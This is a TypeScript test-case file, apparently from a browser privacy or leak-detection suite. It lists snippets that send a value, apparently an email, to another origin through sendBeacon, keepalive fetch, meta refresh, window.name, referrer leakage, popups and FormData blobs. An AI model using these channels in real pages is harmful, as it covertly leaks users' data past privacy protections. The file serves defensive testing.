import type { ChannelCase } from '../channel-case.ts';

const served = (path: string): string => `'${path}?to=' + encodeURIComponent(U) + '&e=' + encodeURIComponent(E)`;
const inFrame = (source: string): string => `const f = document.createElement('iframe'); f.hidden = true; ${source} document.body.append(f); await got();`;
const withFile = (entry: string): string => `const f = new FormData(); f.append('note', 'a\\nb'); f.append('file', ${entry});`;

/** Documents that come, go and are written anew, and what leaves with them. */
export const GOING: readonly ChannelCase[] = [
  { id: 'beacon-pagehide', what: 'sendBeacon of a frame that is left', act: `const f = await frame(${served('/leaves')}); f.src = '/empty'; await pause(300);` },
  { id: 'fetch-pagehide', what: 'fetch, keepalive, of a frame that is removed', act: `const f = await frame(${served('/leaves')} + '&keepalive'); f.remove(); await pause(300);` },
  { id: 'frame-opened', what: 'Blob by a frame written anew (document.open)', act: `const f = await frame('/empty'); const d = f.contentDocument; d.open(); d.write('<script>fetch("' + U + '/c", { method: "POST", body: new Blob(["' + E + '"]) }).finally(() => parent.postMessage("got", "*"))<' + '/script>'); d.close(); await got();` },
  { id: 'frame-refresh', what: 'meta refresh in a frame', act: `const f = document.createElement('iframe'); f.hidden = true; f.srcdoc = '<meta http-equiv="refresh" content="0;url=' + U + '/c?e=' + encodeURIComponent(E) + '">'; document.body.append(f); await pause(500);` },
  { id: 'frame-moved', what: 'location of a frame, window.name to the next page', act: `const f = await frame('/empty'); f.contentWindow.name = E; f.contentWindow.location = U + '/name'; await got();` },
  { id: 'xhr-sandboxed', what: 'XMLHttpRequest of a Blob in a sandboxed frame', act: inFrame(`f.sandbox = 'allow-scripts'; f.srcdoc = '<script>const x = new XMLHttpRequest(); x.onloadend = () => parent.postMessage("got", "*"); x.open("POST", "' + U + '/c"); x.send(new Blob(["' + E + '"]))<' + '/script>';`) },
  { id: 'push-state', what: 'referrer after history.pushState', act: `history.pushState({}, '', '/?e=' + encodeURIComponent(E)); await fetch(U + '/c', { referrerPolicy: 'unsafe-url' }); history.pushState({}, '', '/');`, sees: { firefox: 'absent' }, because: 'Firefox tells other sites no more than the origin' },
  { id: 'navigation', what: 'navigation that gets no page (204)', act: `location.assign(U + '/nothing?e=' + encodeURIComponent(E)); await pause(500);` },
  { id: 'popup-blank', what: 'fetch of an empty pop-up', act: `const w = open('about:blank'); await pause(200); await w.fetch(U + '/c', { method: 'POST', body: E }); await pause(200); w.close();` },
  { id: 'fetch-file-blob', what: 'fetch, Blob in FormData', act: `${withFile(`new Blob(['email=' + E])`)} await fetch(U + '/c', { method: 'POST', body: f });` },
  { id: 'beacon-file', what: 'sendBeacon, file in FormData', act: `${withFile(`new File(['email=' + E], 'a.txt')`)} navigator.sendBeacon(U + '/c', f); await pause(100);` },
  { id: 'xhr-file', what: 'XMLHttpRequest, file in FormData', act: `${withFile(`new File(['email=' + E], 'a.txt')`)} await xhr(U, f);` },
  { id: 'link-modulepreload', what: 'link rel=modulepreload', act: `const it = document.createElement('link'); it.rel = 'modulepreload'; it.href = U + '/module.js?e=' + encodeURIComponent(E); const fetched = new Promise(done => { it.onload = it.onerror = done; }); document.head.append(it); await fetched;` },
];
